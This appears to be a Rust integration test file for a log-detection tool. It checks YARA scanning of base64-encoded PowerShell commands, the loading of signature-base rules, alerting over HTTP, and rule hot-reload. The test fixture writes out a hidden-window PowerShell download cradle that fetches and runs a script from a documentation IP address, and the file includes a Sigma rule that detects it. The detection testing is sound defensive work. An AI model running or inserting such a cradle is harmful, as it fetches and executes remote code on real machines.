//! YARA end to end: `vedette detect --yara` over a log line whose PowerShell command is
//! hidden in `-EncodedCommand`, third-party rule files (signature-base's `gen_*`, with
//! THOR external variables and the `pe` module) loading, and `vedette run` raising a
//! YARA alert from an event sent over HTTP.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::{Path, PathBuf};
use std::time::Duration;

use base64::Engine;
use common::{vedette_output, wait_for, Service};
use serde_json::Value;

fn corpora_root() -> PathBuf {
    std::env::var("VEDETTE_CORPORA")
        .map(PathBuf::from)
        .unwrap_or_else(|_| Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpora"))
}

/// A Sysmon process event running a download cradle through `-EncodedCommand`.
fn encoded_cradle_event(host: &str) -> String {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.20/p.ps1')";
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = base64::engine::general_purpose::STANDARD.encode(utf16);
    serde_json::json!({
        "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": host,
        "TimeCreated_SystemTime": "2026-11-23T09:00:00.000Z", "ProcessId": 4242,
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "CommandLine": format!("powershell.exe -NoProfile -WindowStyle Hidden -enc {encoded}"),
        "User": "CORP\\bob",
    })
    .to_string()
}

#[test]
fn detect_scans_decoded_commands_and_loads_third_party_rules() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("events.jsonl");
    std::fs::write(&input, format!("{}\n", encoded_cradle_event("ws-7"))).unwrap();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = vedette_output(&[
        "detect",
        "--format",
        "windows-json",
        "-r",
        root.join("rules/sigma/linux").to_str().unwrap(),
        "--yara",
        root.join("rules/yara").to_str().unwrap(),
        input.to_str().unwrap(),
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let lines: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 1, "{lines:?}");
    let hit = &lines[0];
    assert_eq!(hit["kind"], "yara");
    assert_eq!(
        hit["rule_id"],
        "powershell_download_cradle:powershell_download_cradle"
    );
    assert_eq!(hit["host"], "ws-7");
    assert_eq!(hit["level"], "high");
    assert_eq!(
        hit["matched"]["yara.fields"],
        "process.command_line(encodedcommand)"
    );
    assert!(stderr.contains("1 YARA hits"), "{stderr}");

    // signature-base's generic rules: every file compiles (THOR externals, `pe`).
    let sigbase = corpora_root().join("yara/signature-base/yara");
    assert!(
        sigbase.is_dir(),
        "the YARA corpus is missing at {}: set VEDETTE_CORPORA (see README, \"Test data\")",
        sigbase.display()
    );
    let mut files: Vec<PathBuf> = std::fs::read_dir(&sigbase)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with("gen_"))
        })
        .collect();
    files.sort();
    assert!(files.len() >= 150, "{} gen_* files", files.len());
    let mut args: Vec<String> = vec![
        "detect".into(),
        "--format".into(),
        "windows-json".into(),
        "-r".into(),
        root.join("rules/sigma/linux").display().to_string(),
    ];
    for f in &files {
        args.push("--yara".into());
        args.push(f.display().to_string());
    }
    args.push(input.display().to_string());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = vedette_output(&args);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let loaded: usize = stderr
        .lines()
        .find_map(|l| {
            l.strip_prefix("vedette detect: ")?
                .strip_suffix(" YARA rules loaded")
        })
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(loaded > 1000, "{stderr}");

    // A file that does not compile stops the hunt with the compiler's reason.
    let bad = dir.path().join("bad.yar");
    std::fs::write(&bad, "rule bad { condition: $nope }").unwrap();
    let out = vedette_output(&[
        "detect",
        "-r",
        root.join("rules/sigma/linux").to_str().unwrap(),
        "--yara",
        bad.to_str().unwrap(),
        input.to_str().unwrap(),
    ]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("bad.yar"));
}

/// A Sigma rule that builds on a YARA match (the `yara.rules` column).
const SIGMA_ON_YARA: &str = r"title: PowerShell download cradle found by YARA
id: 0c2f5d2e-6c1e-4c53-9b0e-2f7c5a1d9e01
status: test
level: critical
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    yara.rules|contains: 'powershell_download_cradle'
    Image|endswith: '\powershell.exe'
  condition: selection
";

#[test]
fn the_service_raises_a_yara_alert_from_an_ingested_event() {
    let tmp = tempfile::tempdir().unwrap();
    let rules = tmp.path().join("sigma");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("on_yara.yml"), SIGMA_ON_YARA).unwrap();
    std::fs::write(
        tmp.path().join("v.toml"),
        common::test_config(&format!(
            "[rules]\nsigma_dirs = [\"{}\"]\n",
            rules.display()
        )),
    )
    .unwrap();
    let mut service = Service::start(tmp.path(), &["--config", "v.toml"]);
    service.wait_healthy(Duration::from_secs(10));
    let agent = service.token("agent", None);
    let analyst = service.token("analyst", None);
    common::ingest(
        &service,
        &agent,
        &format!("{}\n", encoded_cradle_event("ws-9")),
    );
    let alert = wait_for("the YARA alert", Duration::from_secs(30), || {
        let (code, body) = common::get_with(service.addr, "/v1/alerts?from=0&limit=100", &analyst);
        assert_eq!(code, 200, "{body}");
        let listing: Value = serde_json::from_str(&body).unwrap();
        listing["alerts"]
            .as_array()?
            .iter()
            .find(|a| a["detection.kind"] == "yara")
            .cloned()
    });
    assert_eq!(
        alert["rule.id"],
        "powershell_download_cradle:powershell_download_cradle"
    );
    assert_eq!(alert["host.name"], "ws-9");
    // The Sigma rule saw the YARA match as a field of the event.
    let built_on = wait_for(
        "the Sigma alert built on it",
        Duration::from_secs(30),
        || {
            let (_, body) = common::get_with(
                service.addr,
                "/v1/alerts?from=0&rule=0c2f5d2e-6c1e-4c53-9b0e-2f7c5a1d9e01",
                &analyst,
            );
            let listing: Value = serde_json::from_str(&body).ok()?;
            listing["alerts"].as_array()?.first().cloned()
        },
    );
    assert_eq!(built_on["host.name"], "ws-9");
    assert_eq!(
        built_on["matched"]["yara.rules"],
        "powershell_download_cradle:powershell_download_cradle"
    );
    let (_, text) = common::get_metrics(service.addr).unwrap();
    assert!(
        common::metric_in(&text, "vedette_yara{counter=\"decoded\"}") >= 1,
        "{text}"
    );
    let (code, stderr) = service.terminate();
    assert_eq!(code, Some(0), "{stderr}");
}

/// A Sysmon process event whose command line carries `marker`.
fn marker_event(host: &str, marker: &str) -> String {
    serde_json::json!({
        "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": host,
        "TimeCreated_SystemTime": "2026-11-23T10:00:00.000Z", "ProcessId": 77,
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": format!("cmd.exe /c echo {marker}"),
        "User": "CORP\\eve",
    })
    .to_string()
}

#[test]
fn yara_rules_written_while_the_service_runs_are_swapped_in() {
    let tmp = tempfile::tempdir().unwrap();
    let yara = tmp.path().join("yara");
    std::fs::create_dir_all(&yara).unwrap();
    std::fs::write(
        tmp.path().join("v.toml"),
        common::test_config(&format!(
            "[rules]\nyara_dirs = [\"{}\"]\nreload_poll_ms = 200\n",
            yara.display()
        )),
    )
    .unwrap();
    let mut service = Service::start(tmp.path(), &["--config", "v.toml"]);
    service.wait_healthy(Duration::from_secs(10));
    let agent = service.token("agent", None);
    let analyst = service.token("analyst", None);
    let marker = "vedette-reload-marker-7731";
    let yara_alerts = |host: &str| -> usize {
        let (_, body) = common::get_with(
            service.addr,
            "/v1/alerts?from=0&limit=1000&kind=yara",
            &analyst,
        );
        let listing: Value = serde_json::from_str(&body).unwrap();
        listing["alerts"]
            .as_array()
            .map_or(0, |a| a.iter().filter(|x| x["host.name"] == host).count())
    };
    // Before the rule exists, the marker raises nothing.
    common::ingest(
        &service,
        &agent,
        &format!("{}\n", marker_event("before", marker)),
    );
    wait_for("the first event stored", Duration::from_secs(20), || {
        let rows = common::query(
            &service,
            &analyst,
            "SELECT count(*) AS n FROM events WHERE \"host.name\" = 'before'",
        );
        (common::number(&rows, "n") == 1).then_some(())
    });
    assert_eq!(yara_alerts("before"), 0);

    // A broken file and a good one are written: the good rule is swapped in.
    std::fs::write(yara.join("broken.yar"), "rule broken { condition: nope }").unwrap();
    std::fs::write(
        yara.join("marker.yar"),
        format!(
            "rule reload_marker {{\n  strings:\n    $m = \"{marker}\"\n  condition:\n    $m\n}}\n"
        ),
    )
    .unwrap();
    let mut n = 0;
    wait_for("the new rule's alert", Duration::from_secs(30), || {
        n += 1;
        let host = format!("after-{n}");
        common::ingest(
            &service,
            &agent,
            &format!("{}\n", marker_event(&host, marker)),
        );
        std::thread::sleep(Duration::from_millis(300));
        (yara_alerts(&host) == 1).then_some(())
    });
    let (_, text) = common::get_metrics(service.addr).unwrap();
    // Each value met is scanned or passed over by the prefilter.
    let met = common::metric_in(&text, "vedette_yara{counter=\"scans\"}")
        + common::metric_in(&text, "vedette_yara{counter=\"passed_over\"}");
    assert!(met >= 2, "the counters go on across the swap: {text}");
    assert_eq!(yara_alerts("before"), 0, "rules apply from their swap on");
    let log = service.log_tail();
    assert!(log.contains("YARA rules reloaded"), "{log}");
    assert!(
        log.contains("broken.yar"),
        "the broken file is named: {log}"
    );
    let (code, stderr) = service.terminate();
    assert_eq!(code, Some(0), "{stderr}");
}
